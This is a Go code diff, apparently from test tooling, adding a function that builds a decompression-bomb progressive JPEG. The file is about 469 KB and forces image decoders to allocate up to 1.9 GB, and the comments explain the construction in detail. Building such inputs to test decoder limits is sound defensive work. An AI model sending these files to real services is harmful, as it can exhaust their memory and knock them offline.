@@ -109,3 +109,52 @@ func PNGMetadata(data []byte) string {
 	}
 	return "a malformed file"
 }
+
+// Bomb returns a decompression bomb: a small progressive JPEG of w×h
+// pixels (at most 65535 each) whose every block is flat grey. Each
+// component is sampled 4:4:4, so image/jpeg keeps 4 bytes of coefficients
+// and 1 byte of pixels per sample: 15 bytes per pixel for 3 components, 24
+// with cmyk (4 components, Adobe APP14 without transform, converted to a
+// CMYK copy). The file holds one DC scan of one bit per block, so an
+// 8944×8944 bomb is 469 KB and asks for 1.2 GB (1.9 GB with cmyk).
+func Bomb(w, h int, cmyk bool) []byte {
+	n := 3
+	if cmyk {
+		n = 4
+	}
+	seg := func(b []byte, marker byte, payload ...byte) []byte {
+		b = append(b, 0xFF, marker)
+		b = binary.BigEndian.AppendUint16(b, uint16(2+len(payload)))
+		return append(b, payload...)
+	}
+	b := []byte{0xFF, 0xD8} // SOI
+	if cmyk {
+		// APP14 "Adobe": version 100, flags 0, 0, colour transform 0.
+		b = seg(b, 0xEE, 'A', 'd', 'o', 'b', 'e', 0, 100, 0, 0, 0, 0, 0)
+	}
+	dqt := make([]byte, 65) // table 0, 8-bit, every step 1
+	for i := 1; i < len(dqt); i++ {
+		dqt[i] = 1
+	}
+	b = seg(b, 0xDB, dqt...)
+	sof := []byte{8, byte(h >> 8), byte(h), byte(w >> 8), byte(w), byte(n)}
+	for i := range n {
+		sof = append(sof, byte(i+1), 0x11, 0) // id, 1×1 sampling, table 0
+	}
+	b = seg(b, 0xC2, sof...) // SOF2: progressive Huffman
+	// DC table 0 with a single code, "0" (one bit), for difference
+	// category 0: every block's DC stays 0.
+	dht := append([]byte{0x00, 1}, make([]byte, 15)...)
+	b = seg(b, 0xC4, append(dht, 0)...)
+	sos := []byte{byte(n)}
+	for i := range n {
+		sos = append(sos, byte(i+1), 0x00)
+	}
+	b = seg(b, 0xDA, append(sos, 0, 0, 0)...) // Ss=0, Se=0, Ah=Al=0: DC first
+	bits := ((w + 7) / 8) * ((h + 7) / 8) * n
+	b = append(b, make([]byte, bits/8)...)
+	if r := bits % 8; r != 0 {
+		b = append(b, 0xFF>>r) // the last bits, padded with ones
+	}
+	return append(b, 0xFF, 0xD9) // EOI
+}
